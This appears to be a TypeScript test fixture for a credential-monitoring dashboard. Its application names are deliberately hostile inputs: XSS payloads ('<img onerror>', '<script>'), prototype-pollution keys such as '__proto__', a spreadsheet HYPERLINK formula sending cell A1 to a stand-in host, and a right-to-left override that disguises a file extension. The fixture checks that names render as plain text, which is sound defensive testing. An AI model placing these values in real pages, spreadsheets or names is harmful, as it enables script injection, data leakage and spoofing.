import { certificate, daily, secret } from "./make";
import * as p from "./palette";
import type { Scenario } from "./types";

/** Names that whoever registers an application may choose: they must stay text everywhere. */
export const NAMES: readonly Scenario[] = [
  {
    no: "d3",
    name: "<img src=x onerror=alert(1)>",
    shows: "a name that must stay text; verified",
    ipAddress: "203.0.113.66",
    location: "RO",
    userAgent: "<script>alert(2)</script>",
    held: [{ kind: "secret", name: "<b>bold</b>", end: "2027-05-05T00", days: 365, lastUsed: "2026-11-23T00" }],
    runs: [
      {
        on: p.POWER_BI,
        type: "none",
        failure: p.NO_CREDENTIAL_SENT,
        from: "10-27T12",
        to: "11-02T12",
        every: 12,
        total: 41,
      },
      { on: p.POWER_BI, used: 0, from: "11-03T12", to: "11-23T00", every: 12, total: 88 },
    ],
    grade: "poor",
    rules: ["secret-lifetime"],
    cases: [{ on: p.POWER_BI, code: 7000218, state: "verified" }],
  },
  {
    no: "d4",
    name: "__proto__",
    shows: "a name that is a property of every object; an expired secret was replaced: verified, leftover to clean up",
    ipAddress: "198.51.100.99",
    location: "CZ",
    held: [
      { kind: "secret", name: "constructor", end: "2027-05-01T00", days: 180, lastUsed: "2026-11-23T06" },
      { kind: "secret", name: "toString", end: "2026-10-30T00", days: 180, lastUsed: "2026-10-29T06" },
    ],
    runs: [
      { on: p.ARM, used: 1, from: "10-25T06", to: "10-29T06", every: 24, total: 12 },
      { on: p.ARM, used: 1, failure: p.SECRET_EXPIRED, from: "10-30T06", to: "11-01T06", every: 6, total: 10 },
      { on: p.ARM, used: 0, from: "11-02T06", to: "11-23T06", every: 24, total: 58 },
    ],
    grade: "attention",
    rules: ["secret-only", "expired-leftover"],
    cases: [{ on: p.ARM, code: 7000222, state: "verified" }],
  },
  {
    no: "e5",
    name: '=HYPERLINK("https://example.invalid/?q="&A1,"open")',
    shows: "a name that a spreadsheet would run",
    held: [certificate("+CN=1+1", "2027-04-04T00", 365)],
    runs: [daily(p.POWER_BI, 0, 95)],
    grade: "good",
    rules: ["certificate-ok"],
    cases: [],
  },
  {
    no: "e6",
    name: "sp-ledger-\u202Efdp.etadpu",
    shows: "right-to-left override in the name; a secret of 731 days, one above the limit, that never failed",
    held: [secret("two-years-and-a-day", "2027-09-01T00", 731)],
    runs: [daily(p.POWER_BI, 0, 130)],
    grade: "critical",
    rules: ["secret-lifetime-extreme"],
    cases: [],
  },
  {
    no: "e7",
    name: "خدمة التقارير اليومية",
    shows: "an Arabic name",
    held: [
      {
        kind: "federated",
        name: "reports-daily",
        lastUsed: "2026-11-23T00",
        issuer: "https://token.actions.githubusercontent.com",
        subject: "repo:contoso/reports:environment:production",
      },
    ],
    runs: [daily(p.POWER_BI, 0, 240)],
    grade: "good",
    rules: ["federated-only"],
    cases: [],
  },
  {
    no: "e8",
    name: "sp-albatross, which somebody named in whole sentences; ".repeat(6).slice(0, 300),
    shows: "a name of 300 characters",
    held: [certificate("CN=albatross", "2027-08-15T00", 365)],
    runs: [daily(p.WAREHOUSE, 0, 60)],
    grade: "good",
    rules: ["certificate-ok"],
    cases: [],
  },
];
